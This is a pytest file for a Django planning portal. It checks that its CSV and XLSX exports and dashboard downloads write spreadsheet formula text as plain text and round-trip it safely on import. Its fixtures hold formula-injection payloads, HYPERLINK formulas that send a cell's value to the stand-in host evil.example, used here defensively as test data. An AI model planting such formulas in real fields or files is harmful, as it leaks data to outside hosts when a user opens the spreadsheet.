"""Text a department, finance or a planner typed never runs as a formula in the files the portal hands out: the
planning exports (CSV and XLSX) and the dashboards' CSV downloads write it as text, and a planning export edited and
imported back keeps what was typed."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from planning import actions, imports
from planning.models import Activity, Realisation

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'
DOCUMENT = '=HYPERLINK("http://evil.example/","x")'


@pytest.fixture
def paid(budgeted_activity, finance):
    actions.record_realisation(
        actor=finance,
        activity=budgeted_activity,
        date=dt.date(2026, 3, 2),
        amount="1000000",
        document_number=DOCUMENT,
        description=LINK,
    )
    return budgeted_activity


def test_the_planning_exports_write_formula_text_as_text(client, planner, paid, fiscal_year):
    client.force_login(planner)
    url = reverse("planning:export", args=["realisation", "csv"])
    rows = list(csv.reader(io.StringIO(client.get(url, {"tahun": 2026}).content.decode())))
    assert rows[1][-2:] == ["'" + DOCUMENT, "'" + LINK]

    xlsx = client.get(reverse("planning:export", args=["realisation", "xlsx"]), {"tahun": 2026}).content
    cells = list(load_workbook(io.BytesIO(xlsx)).worksheets[0].iter_rows(min_row=2, values_only=False))[0]
    # Text cells as typed: an apostrophe showed as part of the text in the cell.
    assert [(c.data_type, c.value) for c in cells[-2:]] == [("s", DOCUMENT), ("s", LINK)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_file_imported_back_keeps_what_was_typed(paid, finance, fiscal_year, fmt):
    table = imports.export_table(fiscal_year=fiscal_year, kind="realisation")
    Realisation.objects.all().delete()
    content = imports.as_csv(table) if fmt == "csv" else imports.as_xlsx(table)
    result = imports.import_file(
        actor=finance, fiscal_year=fiscal_year, kind="realisation", content=content, filename=f"r.{fmt}"
    )
    assert result.ok, result.errors
    assert list(Realisation.objects.values_list("document_number", "description")) == [(DOCUMENT, LINK)]


def test_the_public_dashboard_csv_writes_an_activity_name_as_text(client, paid):
    Activity.objects.filter(pk=paid.pk).update(name=LINK)
    response = client.get(reverse("dashboards:export", args=["public", "activities", "csv"]), {"tahun": 2026})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'" + LINK in cells and LINK not in cells
